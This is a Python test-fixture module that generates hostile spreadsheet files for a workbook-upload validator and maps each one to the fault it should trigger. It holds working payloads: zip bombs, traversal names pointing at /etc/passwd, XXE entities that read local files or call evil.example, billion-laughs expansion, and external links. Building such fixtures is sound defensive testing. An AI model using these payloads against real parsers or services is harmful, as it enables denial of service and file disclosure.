"""Workbooks built to harm, made by code, each with the fault that it is owed."""

import struct
from collections.abc import Callable, Iterable, Mapping
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from shared.contracts.workbook_names import BYTES_MAX
from shared.contracts.workbooks import BookFault

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"

Files = dict[str, str | bytes]


def types(main: str = SHEET_TYPE) -> str:
    return (
        f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/></Types>'
    )


def relations(*rows: str) -> str:
    return f'{HEAD}<Relationships xmlns="{RELATIONS}">{"".join(rows)}</Relationships>'


def relation(key: str, kind: str, target: str, more: str = "") -> str:
    return f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{target}" {more}/>'


def sheet(rows: str, after: str = "") -> str:
    return f'{HEAD}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData>{after}</worksheet>'


def book(rows: str = '<row r="1"><c r="A1"><v>1</v></c></row>', /, **others: str | bytes) -> Files:
    """A whole workbook of one sheet; `others` by part name add to it or take the place of what is there."""
    files: Files = {
        "[Content_Types].xml": types(),
        "_rels/.rels": relations(relation("r1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'{HEAD}<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
        '<sheet name="One" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(
            relation("r1", "worksheet", "worksheets/sheet1.xml"),
            relation("r2", "sharedStrings", "sharedStrings.xml"),
        ),
        "xl/worksheets/sheet1.xml": sheet(rows),
    }
    return files | others


def zipped(files: Mapping[str, str | bytes], level: int = 9) -> bytes:
    target = BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return target.getvalue()


def streamed(name: str, pieces: Iterable[bytes], files: Mapping[str, str | bytes]) -> bytes:
    """One part too large to be held."""
    target = BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED) as archive:
        for other, content in files.items():
            if other != name:
                archive.writestr(other, content)
        with archive.open(name, "w", force_zip64=True) as part:
            for piece in pieces:
                part.write(piece)
    return target.getvalue()


def texts(*items: str) -> str:
    return f'{HEAD}<sst xmlns="{MAIN}">{"".join(items)}</sst>'


SHEET = "xl/worksheets/sheet1.xml"


def bomb_by_size() -> bytes:
    return streamed(SHEET, (b" " * 1_000_000 for _ in range(1_000)), book())


def bomb_by_ratio() -> bytes:
    return zipped(book(**{SHEET: sheet("") + " " * 20_000_000}))


def bomb_of_bombs() -> bytes:
    inner = zipped(book(**{SHEET: " " * 20_000_000}))
    harm: Files = {"xl/media/inner.zip": inner, SHEET: sheet(" " * 20_000_000)}
    return zipped(book(**harm))


def overlapping() -> bytes:
    """Every entry of the directory shows the same packed bytes."""
    kernel = zipped({"a": b"a" * 100_000})
    with ZipFile(BytesIO(kernel)) as archive:
        info = archive.getinfo("a")
    local = kernel[: kernel.index(b"PK\x01\x02")]
    entries = b"".join(
        struct.pack(
            "<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 8, 0, 0, info.CRC, info.compress_size,
            info.file_size, len(name), 0, 0, 0, 0, 0, 0,
        )
        + name
        for name in (f"{number:03d}".encode() for number in range(150))
    )  # fmt: skip
    return (
        local + entries + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 150, 150, len(entries), len(local), 0)
    )


def lying_size() -> bytes:
    """Announces ten bytes, unpacks to ten million."""
    content = zipped(book(**{SHEET: sheet(" " * 10_000_000)}))
    real = struct.pack("<L", len(sheet(" " * 10_000_000)))
    assert real in content
    return content.replace(real, struct.pack("<L", 10))


def many_entries() -> bytes:
    return zipped(book() | {f"xl/media/{number}.png": b"" for number in range(5_000)})


def lying_count() -> bytes:
    content = bytearray(zipped(book() | {f"xl/media/{number}.png": b"" for number in range(5_000)}))
    end = content.rindex(b"PK\x05\x06")
    content[end + 8 : end + 12] = struct.pack("<2H", 5, 5)
    return bytes(content)


def twice_the_same() -> bytes:
    target = BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED) as archive:
        for name, content in book().items():
            archive.writestr(name, content)
        info = ZipInfo(SHEET.upper())
        archive.writestr(info, sheet('<row r="1"><c r="A1"><v>2</v></c></row>'))
    return target.getvalue()


def with_entry(name: str, attributes: int = 0) -> bytes:
    target = BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED) as archive:
        for other, content in book().items():
            archive.writestr(other, content)
        info = ZipInfo(name)
        info.external_attr = attributes
        archive.writestr(info, "x")
    return target.getvalue()


def encrypted_part() -> bytes:
    content = bytearray(zipped(book()))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.index(mark)
        content[at + offset] |= 1
    return bytes(content)


def entity(definition: str, use: str = "&x;") -> bytes:
    body = sheet(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{use}</t></is></c></row>').removeprefix(HEAD)
    document = f"{HEAD}<!DOCTYPE s [{definition}]>{body}"
    return zipped(book(**{SHEET: document}))


def laughs() -> bytes:
    lines = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))
    return entity(lines, "&a10;")


def doctype_in_styles() -> bytes:
    return zipped(book(**{"xl/styles.xml": f'{HEAD}<!DOCTYPE s SYSTEM "http://evil.example/x"><s/>'}))


def utf16_doctype() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE s [<!ENTITY x "y">]><s>&x;</s>'
    return zipped(book(**{"xl/styles.xml": text.encode("utf-16")}))


def million_rows() -> bytes:
    def pieces() -> Iterable[bytes]:
        yield sheet("").partition("</sheetData>")[0].encode()
        for start in range(1, 1_000_001, 10_000):
            yield "".join(
                f'<row r="{row}"><c r="A{row}"><v>{row * 7919 % 100003}</v></c></row>'
                for row in range(start, start + 10_000)
            ).encode()
        yield b"</sheetData></worksheet>"

    return streamed(SHEET, pieces(), book())


def blank_million() -> bytes:
    rows = "".join(f'<row r="{row}" s="1"/>' for row in range(1, 900_001))
    return zipped(book(rows), 1)


def sparse_giant() -> bytes:
    return zipped(
        book('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    )


def wide() -> bytes:
    return zipped(book('<row r="1">' + "<c><v>1</v></c>" * 16_384 + "</row>"))


def shared_text_bomb() -> bytes:
    return zipped(book(**{"xl/sharedStrings.xml": texts(*["<si><t/></si>"] * 1_200_000)}), 1)


def shared_giants() -> bytes:
    one = f"<si><t>{'x' * 1_999}</t></si>"
    return zipped(book(**{"xl/sharedStrings.xml": texts(*[one] * 9_000)}), 1)


def rich_bomb() -> bytes:
    return zipped(
        book(**{"xl/sharedStrings.xml": texts("<si>" + "<r><t>ab</t></r>" * 1_000_000 + "</si>")}), 1
    )


def long_cell() -> bytes:
    return zipped(book(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"x" * 32_767}</t></is></c></row>'))


def deep() -> bytes:
    return zipped(book(**{"xl/styles.xml": "<s>" * 200_000 + "</s>" * 200_000}), 1)


def endless_token() -> bytes:
    noise = "".join(chr(97 + number * 7919 % 26) + str(number % 97) for number in range(2_000_000))
    return zipped(book(**{"xl/styles.xml": f'<s a="{noise}"/>'}), 1)


def empty_parts() -> bytes:
    """Many parts that each are within bounds."""
    part = "<s>" + "<a/>" * 50_000 + "</s>"
    return zipped(book(**{f"xl/extra{number}.xml": part for number in range(100)}), 1)


def merges() -> bytes:
    areas = "".join(f'<mergeCell ref="A{row}:B{row}"/>' for row in range(1, 42_001))
    return zipped(book(**{SHEET: sheet("", f"<mergeCells>{areas}</mergeCells>")}))


def linked(kind: str) -> bytes:
    link = relation("x", kind, "http://evil.example/a", 'TargetMode="External"')
    return zipped(book(**{"xl/worksheets/_rels/sheet1.xml.rels": relations(link)}))


def old_encrypted() -> bytes:
    return bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le")


def macro_types() -> bytes:
    return zipped(
        book(**{"[Content_Types].xml": types("application/vnd.ms-excel.sheet.macroEnabled.main+xml")})
    )


def missing_text() -> bytes:
    return zipped(book('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>'))


def cut_off() -> bytes:
    content = zipped(book())
    return content[: len(content) // 2]


def bad_deflate() -> bytes:
    content = bytearray(zipped(book()))
    at = content.index(SHEET.encode()) + len(SHEET)
    content[at : at + 20] = b"\xff" * 20
    return bytes(content)


def text_document() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return zipped({"[Content_Types].xml": types(main), "word/document.xml": "<w/>"})


def prefixed_million() -> bytes:
    """Cells under a prefix, as a producer may write them: the limits hold for them too."""
    rows = '<x:row r="1">' + "".join(f'<x:c s="{n * 7919 % 99991}"/>' for n in range(500_000)) + "</x:row>"
    body = f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData>{rows}</x:sheetData></x:worksheet>'
    return zipped(book(**{SHEET: body}), 1)


_F = BookFault
HOSTILE: Mapping[str, tuple[Callable[[], bytes], BookFault]] = {
    "nothing": (lambda: b"", _F.EMPTY),
    "over the size": (lambda: b"PK" + b"x" * BYTES_MAX, _F.TOO_LARGE),
    "a bomb by size": (bomb_by_size, _F.TOO_LARGE),
    "a bomb by ratio": (bomb_by_ratio, _F.TRICKS),
    "a bomb in a bomb": (bomb_of_bombs, _F.TRICKS),
    "overlapping parts": (overlapping, _F.TRICKS),
    "a lying size": (lying_size, _F.BROKEN),
    "five thousand parts": (many_entries, _F.TRICKS),
    "a lying count of parts": (lying_count, _F.TRICKS),
    "two parts of one name": (twice_the_same, _F.TRICKS),
    "a name that climbs out": (lambda: with_entry("../../etc/passwd"), _F.TRICKS),
    "an absolute name": (lambda: with_entry("/etc/passwd"), _F.TRICKS),
    "a symbolic link": (lambda: with_entry("xl/link", 0o120777 << 16), _F.TRICKS),
    "an encrypted part": (encrypted_part, _F.ENCRYPTED),
    "an encrypted workbook": (old_encrypted, _F.ENCRYPTED),
    "an old .xls": (lambda: bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 5_000, _F.OLD_FORMAT),
    "a binary workbook": (lambda: zipped(book(**{"xl/workbook.bin": b"x"})), _F.OLD_FORMAT),
    "an OpenDocument": (lambda: zipped({"mimetype": "application/vnd.oasis.opendocument"}), _F.OLD_FORMAT),
    "a csv in disguise": (lambda: "usługa;ilość\r\nEKG;12\r\n".encode("cp1250"), _F.NO_WORKBOOK),
    "a web page": (lambda: b"<html><table><tr><td>1</td></tr></table></html>", _F.NO_WORKBOOK),
    "another zip": (lambda: zipped({"a.txt": "a"}), _F.NO_WORKBOOK),
    "a text document": (text_document, _F.NO_WORKBOOK),
    "an outer entity": (lambda: entity('<!ENTITY x SYSTEM "file:///etc/passwd">'), _F.TRICKS),
    "an entity over the network": (lambda: entity('<!ENTITY x SYSTEM "http://evil.example/">'), _F.TRICKS),
    "a parameter entity": (lambda: entity('<!ENTITY % x SYSTEM "http://evil.example/">%x;', "a"), _F.TRICKS),
    "a billion laughs": (laughs, _F.TRICKS),
    "a document type in another part": (doctype_in_styles, _F.TRICKS),
    "a document type in UTF-16": (utf16_doctype, _F.TRICKS),
    "a million rows": (million_rows, _F.TOO_LARGE),
    "nine hundred thousand blank rows": (blank_million, _F.TOO_MANY_CELLS),
    "a sparse giant": (sparse_giant, _F.TOO_MANY_CELLS),
    "sixteen thousand columns": (wide, _F.TOO_MANY_CELLS),
    "blank cells under a prefix": (prefixed_million, _F.TOO_MANY_CELLS),
    "a million shared texts": (shared_text_bomb, _F.TOO_MANY_CELLS),
    "shared texts of megabytes": (shared_giants, _F.TOO_MANY_CELLS),
    "one text of a million runs": (rich_bomb, _F.TEXT_TOO_LONG),
    "a cell as long as can be": (long_cell, _F.TEXT_TOO_LONG),
    "XML without a floor": (deep, _F.TRICKS),
    "a token without end": (endless_token, _F.TRICKS),
    "elements in a hundred parts": (empty_parts, _F.TOO_MANY_CELLS),
    "forty thousand merged areas": (merges, _F.TOO_MANY_CELLS),
    "macros": (lambda: zipped(book(**{"xl/vbaProject.bin": b"x"})), _F.MACROS),
    "macros by type": (macro_types, _F.MACROS),
    "macros of Excel 4": (lambda: zipped(book(**{"xl/macrosheets/sheet1.xml": "<x/>"})), _F.MACROS),
    "an external workbook": (lambda: zipped(book(**{"xl/externalLinks/e1.xml": "<x/>"})), _F.LINKED),
    "a linked template": (lambda: linked("attachedTemplate"), _F.LINKED),
    "an embedded object": (lambda: zipped(book(**{"xl/embeddings/oleObject1.bin": b"x"})), _F.LINKED),
    "a text that is not there": (missing_text, _F.BROKEN),
    "cut off": (cut_off, _F.BROKEN),
    "a part that does not unpack": (bad_deflate, _F.BROKEN),
    "XML that ends too early": (lambda: zipped(book(**{SHEET: "<worksheet><sheetData>"})), _F.BROKEN),
}  # fmt: skip
